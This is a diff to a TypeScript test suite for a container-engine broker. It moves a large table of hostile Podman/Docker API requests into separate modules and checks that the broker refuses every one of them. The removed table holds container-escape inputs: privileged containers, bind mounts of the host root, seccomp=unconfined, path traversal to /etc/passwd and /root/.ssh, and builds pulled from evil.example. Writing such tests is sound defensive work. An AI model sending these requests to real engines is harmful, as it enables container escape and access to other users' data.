@@ -11,15 +11,11 @@ import { createPodmanDriver } from "../drivers/index.ts";
 import { ClosingStack } from "../kernel/index.ts";
 import { hostView } from "./host-view.ts";
 import { startBroker } from "./server.ts";
-import { bind, HUB, helperOf, IMAGE, POLICY, serverOf } from "./test-support/bodies.ts";
-
-interface Asked {
-  readonly method?: string;
-  readonly path: string;
-  readonly body?: unknown;
-  readonly text?: string;
-  readonly headers?: Readonly<Record<string, string>>;
-}
+import { type Asked, type Attacks, create } from "./test-support/asked.ts";
+import { HUB, helperOf, IMAGE, POLICY, serverOf } from "./test-support/bodies.ts";
+import { buildAttacks } from "./test-support/build-attacks.ts";
+import { containerAttacks } from "./test-support/container-attacks.ts";
+import { otherAttacks } from "./test-support/other-attacks.ts";
 
 describe("a hub that was taken over", () => {
   const stack = new ClosingStack();
@@ -124,282 +120,12 @@ describe("a hub that was taken over", () => {
     ]);
   }
 
-  function create(body: unknown, name = "jupyter-ada"): Asked {
-    return { method: "POST", path: `/v1.41/containers/create?name=${name}`, body };
-  }
-  const host = (fields: Readonly<Record<string, unknown>>): Asked => create(serverOf({}, fields));
-  const mounts = (...all: readonly unknown[]): Asked => host({ Mounts: all });
-  const build = (query: string): Asked => ({
-    method: "POST",
-    path: `/v1.41/build?dockerfile=Containerfile&t=localhost%2Fhublet-test%2Fx%3A1&buildargs=%7B%7D&labels=%7B%7D&nocache=false&rm=true&forcerm=true${query}`,
-    text: "",
-    headers: { "content-type": "application/x-tar" },
-  });
-  const namespaces = (process: number | "host", network: number | "host" = process) => {
-    const of = (id: number | "host", name: string) =>
-      id === "host" ? { Host: true, Path: "" } : { Host: false, Path: `/proc/${id}/ns/${name}` };
-    const both = [
-      { Name: "network", ...of(network, "net") },
-      { Name: "pid", ...of(process, "pid") },
-    ];
-    return `&nsoptions=${encodeURIComponent(JSON.stringify(both))}`;
+  const attacks: Attacks = {
+    ...containerAttacks(() => strangerId),
+    ...buildAttacks,
+    ...otherAttacks(() => strangerId),
   };
-
-  const ATTACKS: Readonly<Record<string, () => Asked>> = {
-    "a privileged container": () => host({ Privileged: true }),
-    "a privileged container by another spelling": () => host({ privileged: true }),
-    "a privileged container by a key that stands twice": () => ({
-      ...create(undefined),
-      text: JSON.stringify(serverOf()).replace('"CapDrop"', '"Privileged":false,"Privileged":true,"CapDrop"'),
-    }),
-    "a container outside of HostConfig's own schema": () => create({ ...serverOf(), hostconfig: { Privileged: true } }),
-    "the host's network": () => host({ NetworkMode: "host" }),
-    "another container's network": () => host({ NetworkMode: `container:${strangerId}` }),
-    "the network of strangers": () => host({ NetworkMode: "strangers" }),
-    "a network with a way to the host's loopback": () => host({ NetworkMode: "slirp4netns:allow_host_loopback=true" }),
-    "the host's processes": () => host({ PidMode: "host" }),
-    "the host's shared memory": () => host({ IpcMode: "host" }),
-    "the host's name": () => host({ UTSMode: "host" }),
-    "the host's users": () => host({ UsernsMode: "host" }),
-    "the host's control groups": () => host({ CgroupnsMode: "host" }),
-    "a parent in the host's control groups": () => host({ CgroupParent: "/" }),
-    "a device": () =>
-      host({ Devices: [{ PathOnHost: "/dev/sda", PathInContainer: "/dev/sda", CgroupPermissions: "rwm" }] }),
-    "all devices by request": () => host({ DeviceRequests: [{ Count: -1, Capabilities: [["gpu"]] }] }),
-    "a rule for devices": () => host({ DeviceCgroupRules: ["a *:* rwm"] }),
-    "a capability": () => host({ CapAdd: ["SYS_ADMIN"] }),
-    "all of an engine's default capabilities": () => host({ CapDrop: [] }),
-    "no seccomp": () => host({ SecurityOpt: ["no-new-privileges", "seccomp=unconfined"] }),
-    "new privileges": () => host({ SecurityOpt: [] }),
-    "a kernel setting": () => host({ Sysctls: { "kernel.core_pattern": "|/x" } }),
-    "another runtime": () => host({ Runtime: "/bin/sh" }),
-    "the root of the host by Binds": () => host({ Binds: ["/:/host"] }),
-    "the root of the host by Mounts": () => mounts(bind("/")),
-    "a folder that nobody named": () => mounts(bind("/root")),
-    "a folder by a way round": () => mounts(bind("/srv/data/../../root")),
-    "a folder below one that was named": () => mounts(bind("/srv/data/below")),
-    "a read-only folder for writing": () => mounts(bind("/srv/data", false)),
-    "a folder with what is mounted below it": () =>
-      mounts(bind("/srv/data", true, { BindOptions: { Propagation: "rshared", NonRecursive: false } })),
-    "a folder below one that servers write": () => mounts(bind("/srv/shared/course")),
-    "another person's folder": () => mounts(bind("/home/jupyter-bob", false)),
-    "the hub's state": () => mounts(bind("/var/lib/hublet/state")),
-    "the configuration, also when it names itself": () => mounts(bind("/etc/hublet/keys")),
-    "the engine's socket": () => mounts(bind("/run/podman/podman.sock")),
-    "a volume that is a folder of the host": () =>
-      mounts({
-        Type: "volume",
-        Source: "jupyterhub-user-ada",
-        Target: "/x",
-        ReadOnly: false,
-        VolumeOptions: { DriverConfig: { Name: "local", Options: { type: "none", o: "bind", device: "/" } } },
-      }),
-    "another person's volume": () =>
-      mounts({ Type: "volume", Source: "jupyterhub-user-bob", Target: "/x", ReadOnly: false }),
-    "another hub's volume by a helper": () =>
-      create(
-        helperOf({}, { Mounts: [{ Type: "volume", Source: "jupyterhub-user-bob", Target: "/x", ReadOnly: true }] }),
-        "hublet-pack-x",
-      ),
-    "a volume of the configuration, for writing": () =>
-      mounts({ Type: "volume", Source: "material", Target: "/x", ReadOnly: false }),
-    "volumes of another container": () => host({ VolumesFrom: ["strangers"] }),
-    "a server as root": () => create(serverOf({ User: "0" })),
-    "a server as root by its group": () => create(serverOf({ User: "1000:0" })),
-    "a server of a group that nobody gave it": () => host({ GroupAdd: ["999"] }),
-    "a helper with a folder of the host": () => create(helperOf({}, { Mounts: [bind("/srv/data")] }), "hublet-pack-x"),
-    "a helper with more capabilities": () => create(helperOf({}, { CapAdd: ["SYS_ADMIN"] }), "hublet-pack-x"),
-    "a helper with a network": () => create(helperOf({}, { NetworkMode: "slirp4netns" }), "hublet-pack-x"),
-    "a helper that is a server as well": () =>
-      create(helperOf({ Labels: { "hublet.export": HUB, "hublet.hub": HUB } }), "hublet-pack-x"),
-    "a port for everybody": () => host({ PortBindings: { "8888/tcp": [{ HostIp: "0.0.0.0", HostPort: "" }] } }),
-    "a port of its own choice": () => host({ PortBindings: { "8888/tcp": [{ HostIp: "127.0.0.1", HostPort: "22" }] } }),
-    "names for other hosts": () => host({ ExtraHosts: ["lab.example:10.0.0.1"] }),
-    "a container that comes back by itself": () => host({ RestartPolicy: { Name: "always" } }),
-    "a log into a file of the host": () =>
-      host({ LogConfig: { Type: "k8s-file", Config: { "max-size": "10m", path: "/etc/cron.d/x" } } }),
-    "the environment of the engine": () => create(serverOf({ Env: ["*"] })),
-    "a container without the hub's label": () => create(serverOf({ Labels: {} })),
-    "a container with another hub's label": () => create(serverOf({ Labels: { "hublet.hub": "hub-2" } })),
-    "a label that means something to the host": () =>
-      create(serverOf({ Labels: { "hublet.hub": HUB, "io.containers.autoupdate": "registry" } })),
-    "a container that is called like the broker": () => create(serverOf(), "hublet-broker"),
-    "an image that nobody named": () => create(serverOf({ Image: "docker.io/library/alpine:3" })),
-    "the program's own image": () => create(serverOf({ Image: "localhost/hublet-hub:1" })),
-    "an image from a file (import)": () => ({
-      method: "POST",
-      path: "/v1.41/images/create?fromSrc=-&repo=localhost%2Fhublet-test%2Fx",
-      text: "",
-      headers: { "content-type": "application/x-tar" },
-    }),
-    "images from an archive (load)": () => ({
-      method: "POST",
-      path: "/v1.41/images/load",
-      text: "",
-      headers: { "content-type": "application/x-tar" },
-    }),
-    "a pull of an image that nobody named": () => ({
-      method: "POST",
-      path: "/v1.41/images/create?fromImage=docker.io%2Flibrary%2Falpine%3A3",
-    }),
-    "the name of the program's image for another": () => ({
-      method: "POST",
-      path: `/v1.41/images/${encodeURIComponent("localhost")}/hublet-test/attacks%3A1/tag?repo=localhost%2Fhublet-hub&tag=1`,
-    }),
-    "a push to a registry of somebody else": () => ({
-      method: "POST",
-      path: "/v1.41/images/evil.example/x/push?tag=1",
-    }),
-    "a build with the name of the program": () => ({
-      ...build(""),
-      path: build("").path.replace("hublet-test%2Fx", "hublet-proxy"),
-    }),
-    "a build in the host's network": () => build("&networkmode=host"),
-    "a build with a folder of the host": () => build("&volume=%2F%3A%2Fhost"),
-    "a build from an address": () => build("&remote=http%3A%2F%2Fevil.example%2Fx.tar"),
-    "a build without seccomp": () => build("&seccomp=unconfined"),
-    "a build among the host's processes": () => build(namespaces(1)),
-    "a build among the host's processes, said so": () => build(namespaces("host", 1)),
-    "a build in the host's network, by its namespaces": () => build(namespaces(1, "host")),
-    "a build in the network of one and among the processes of another": () => build(namespaces(1, 2)),
-    "a build without a helper": () => build(""),
-    "a build with another context (additionalbuildcontexts)": () => build("&additionalbuildcontexts=x%3Durl%3A%2Fetc"),
-    "a build with a secret of the host": () => build("&secrets=%5B%22id%3Dx%2Csrc%3D%2Fetc%2Fpasswd%22%5D"),
-    "a build whose content goes to a folder of the host": () => build("&outputs=type%3Dlocal%2Cdest%3D%2Ftmp%2Fx"),
-    "a build in another isolation": () => build("&isolation=chroot"),
-    "a build with devices": () => build("&devices=%5B%22%2Fdev%2Ffuse%22%5D"),
-    "a build with a hook of the host": () => build("&ocihooksdir=%2Ftmp"),
-    "a build by BuildKit, which has sessions": () => build("&version=2"),
-    "a packed folder": () => ({
-      ...build(""),
-      headers: { "content-type": "application/x-tar", "content-encoding": "gzip" },
-    }),
-    "a session for a builder": () => ({
-      method: "POST",
-      path: "/v1.41/session",
-      headers: { connection: "Upgrade", upgrade: "h2c" },
-    }),
-    "a build whose file lies outside": () => ({
-      ...build(""),
-      path: build("").path.replace("=Containerfile", "=..%2F..%2Fetc%2Fpasswd"),
-    }),
-    "a build whose files lie outside, in Podman's list": () => ({
-      ...build(""),
-      path: build("").path.replace("=Containerfile", `=${encodeURIComponent('["\\u002e\\u002e/secret"]')}`),
-    }),
-    "a build whose file takes in others by the preprocessor": () => ({
-      ...build(""),
-      path: build("").path.replace("=Containerfile", "=Containerfile.in"),
-    }),
-    "a command in another's container (exec)": () => ({
-      method: "POST",
-      path: "/v1.41/containers/strangers/exec",
-      body: { Cmd: ["sh"] },
-    }),
-    "a command in a container of one's own (exec)": () => ({
-      method: "POST",
-      path: "/v1.41/containers/jupyter-ada/exec",
-      body: { Cmd: ["sh"], Privileged: true },
-    }),
-    "a start of another's container": () => ({ method: "POST", path: "/v1.41/containers/strangers/start" }),
-    "a stop of another's container": () => ({ method: "POST", path: "/v1.41/containers/strangers/stop?t=0" }),
-    "the removal of another's container by its id": () => ({
-      method: "DELETE",
-      path: `/v1.41/containers/${strangerId}?force=true&v=true`,
-    }),
-    "the removal of another's container by the beginning of its id": () => ({
-      method: "DELETE",
-      path: `/v1.41/containers/${strangerId.slice(0, 12)}?force=true&v=true`,
-    }),
-    "what another's container says": () => ({
-      path: "/v1.41/containers/strangers/logs?stdout=true&stderr=true&tail=10",
-    }),
-    "the input of another's container": () => ({
-      method: "POST",
-      path: "/v1.41/containers/strangers/attach?stream=true&stdin=true&stdout=true&stderr=true",
-      headers: { connection: "Upgrade", upgrade: "tcp" },
-    }),
-    "files of another's container": () => ({ path: "/v1.41/containers/strangers/archive?path=%2Fetc%2Fpasswd" }),
-    "files into a container": () => ({
-      method: "PUT",
-      path: "/v1.41/containers/jupyter-ada/archive?path=%2F",
-      text: "",
-    }),
-    "an image of another's container (commit)": () => ({
-      method: "POST",
-      path: "/v1.41/commit?container=strangers&repo=localhost%2Fhublet-test%2Fx",
-    }),
-    "another container's whole content (export)": () => ({ path: "/v1.41/containers/strangers/export" }),
-    "other settings for a container (update)": () => ({
-      method: "POST",
-      path: "/v1.41/containers/jupyter-ada/update",
-      body: { Memory: 0 },
-    }),
-    "another's volume removed": () => ({ method: "DELETE", path: "/v1.41/volumes/jupyterhub-user-bob" }),
-    "a volume with a driver": () => ({
-      method: "POST",
-      path: "/v1.41/volumes/create",
-      body: {
-        Name: "jupyterhub-user-eve",
-        Labels: { "hublet.hub": HUB },
-        Driver: "local",
-        DriverOpts: { type: "none", o: "bind", device: "/" },
-      },
-    }),
-    "a volume of any name": () => ({
-      method: "POST",
-      path: "/v1.41/volumes/create",
-      body: { Name: "mine", Labels: { "hublet.hub": HUB } },
-    }),
-    "another's network removed": () => ({ method: "DELETE", path: "/v1.41/networks/strangers" }),
-    "a network that is open to the host": () => ({
-      method: "POST",
-      path: "/v1.41/networks/create",
-      body: {
-        Name: "jupyter-eve",
-        Driver: "macvlan",
-        CheckDuplicate: true,
-        Labels: { "hublet.hub": HUB },
-        Options: { parent: "eth0" },
-      },
-    }),
-    "a server into another's network": () => ({
-      method: "POST",
-      path: "/v1.41/networks/strangers/connect",
-      body: { Container: "jupyter-ada" },
-    }),
-    "everything that nobody uses removed (prune)": () => ({ method: "POST", path: "/v1.41/volumes/prune" }),
-    "a plugin": () => ({ method: "POST", path: "/v1.41/plugins/pull?remote=evil" }),
-    "secrets of the deployment": () => ({ path: "/v4.0.0/libpod/secrets/json" }),
-    "a container by Podman's own API": () => ({
-      method: "POST",
-      path: "/v4.0.0/libpod/containers/create",
-      body: { image: IMAGE, privileged: true },
-    }),
-    "a pod by Podman's own API": () => ({ method: "POST", path: "/v4.0.0/libpod/play/kube", text: "kind: Pod" }),
-    "events of everybody": () => ({ path: "/v1.41/events?since=0&filters=%7B%7D" }),
-    "events of another hub": () => ({
-      path: `/v1.41/events?since=0&filters=${encodeURIComponent(JSON.stringify({ type: ["container"], label: ["hublet.hub=hub-2"] }))}`,
-    }),
-    "a path with an encoded slash": () => ({ path: "/v1.41/containers/x%2F..%2F..%2Fsecrets/json" }),
-    "a path that is encoded twice": () => ({ path: "/v1.41/containers/%252e%252e/json" }),
-    "a path that goes up": () => ({ path: "/v1.41/containers/../secrets/json" }),
-    "a path with two slashes": () => ({ path: "//v1.41/secrets" }),
-    "a version that nobody knows": () => ({ path: "/v9.99/containers/json" }),
-    "a parameter that nobody uses": () => ({ method: "DELETE", path: "/v1.41/volumes/jupyterhub-user-ada?force=true" }),
-    "a body where there is none": () => ({
-      method: "POST",
-      path: "/v1.41/containers/strangers/start",
-      body: { Binds: ["/:/x"] },
-    }),
-    "a look at a folder that nobody mounts": () => ({
-      method: "POST",
-      path: "/hublet/look",
-      body: { path: "/root/.ssh" },
-    }),
-  };
-
-  for (const [name, attack] of Object.entries(ATTACKS))
+  for (const [name, attack] of Object.entries(attacks))
     test(name, async () => {
       const before = logged.length;
       const { status, text } = await ask(broker, attack());
@@ -440,7 +166,7 @@ describe("a hub that was taken over", () => {
   });
 
   test("after all of this, the engine has what it had before", async () => {
-    assert.ok(Object.keys(ATTACKS).length >= 40);
+    assert.ok(Object.keys(attacks).length >= 40);
     assert.equal(await everything(), known);
   });
 
